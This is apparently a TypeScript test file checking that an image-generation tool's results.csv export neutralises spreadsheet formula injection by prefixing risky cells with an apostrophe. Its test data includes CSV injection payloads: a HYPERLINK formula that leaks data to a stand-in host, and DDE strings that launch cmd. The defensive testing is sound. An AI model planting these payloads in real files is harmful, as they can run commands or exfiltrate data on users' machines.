// results.csv is safe to open in a spreadsheet (OWASP CSV injection: a cell that could start
// a formula gets a leading '), stays RFC 4180, and results.jsonl keeps every value exact.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { requestHash } from "../src/manifest/index.js";
import type { ImageRequest } from "../src/providers/provider.js";
import { csvCell, writeResults } from "../src/report/results.js";
import { SqliteStore as Store } from "../src/store/sqlite/sqlite-store.js";
import { useTempDir } from "./helpers/tmp.js";

const tempDir = useTempDir();

describe("csvCell", () => {
  it.each([
    ["=", "=1+1", "'=1+1"],
    ["+", "+1+2", "'+1+2"],
    ["-", "-2+3", "'-2+3"],
    ["@", "@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["tab", "\tplain after a tab", "'\tplain after a tab"],
    ["carriage return", "\r=1", "\"'\r=1\""],
    ["= after spaces", "  =1+1", "'  =1+1"],
    ["@ after a no-break space", "\u00a0@SUM(1)", "'\u00a0@SUM(1)"],
    ["= after a newline (quoted for the newline)", "\n=1", "\"'\n=1\""],
    ["= with quotes and commas", '=HYPERLINK("http://evil.example/?a,b","click")', '"\'=HYPERLINK(""http://evil.example/?a,b"",""click"")"'],
  ])("a cell starting with %s gets a leading '", (_name, text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it.each([
    ["a plain prompt", "A lighthouse at dusk over a calm sea", "A lighthouse at dusk over a calm sea"],
    ["an = inside the text", "a = b, then c", '"a = b, then c"'],
    ["leading spaces before plain text (quoted, not prefixed)", "  a lighthouse", '"  a lighthouse"'],
    ["a number of ours, even negative", -1, "-1"],
    ["an empty value", null, ""],
  ])("%s is written as it is", (_name, value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

describe("results.csv and results.jsonl", () => {
  const prompts = [
    '=HYPERLINK("http://evil.example/?leak","click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 behind a tab",
    "\r=1+1 behind a carriage return",
    "   =1+1 behind spaces",
    "A lighthouse at dusk, \"quoted\", over a calm sea",
  ];

  it("neutralises each formula in the CSV, which a CSV parser reads back as the text with its '; the JSONL is exact", async () => {
    const dir = tempDir();
    const store = Store.open(join(dir, "jobs", "m.sqlite"));
    await store.syncManifest(
      prompts.map((prompt, i) => {
        const request: ImageRequest = { prompt, model: "seedream3.0", aspectRatio: "1:1" };
        return { item: { key: `k${i}`, rowId: `k${i}`, source: `m.yaml line ${i + 1}`, variant: null, matrix: {}, request }, requestHash: requestHash(request, "local") };
      }),
      "local",
    );
    const out = join(dir, "out");
    await writeResults(store, out);
    await store.close();

    const csv = parse(readFileSync(join(out, "results.csv")), { columns: true, bom: true }) as Record<string, string>[];
    expect(csv.map((r) => r.prompt)).toEqual([...prompts.slice(0, -1).map((p) => `'${p}`), prompts.at(-1)]);
    const jsonl = readFileSync(join(out, "results.jsonl"), "utf8").trimEnd().split("\n").map((l) => JSON.parse(l) as { prompt: string });
    expect(jsonl.map((r) => r.prompt)).toEqual(prompts);
  });
});
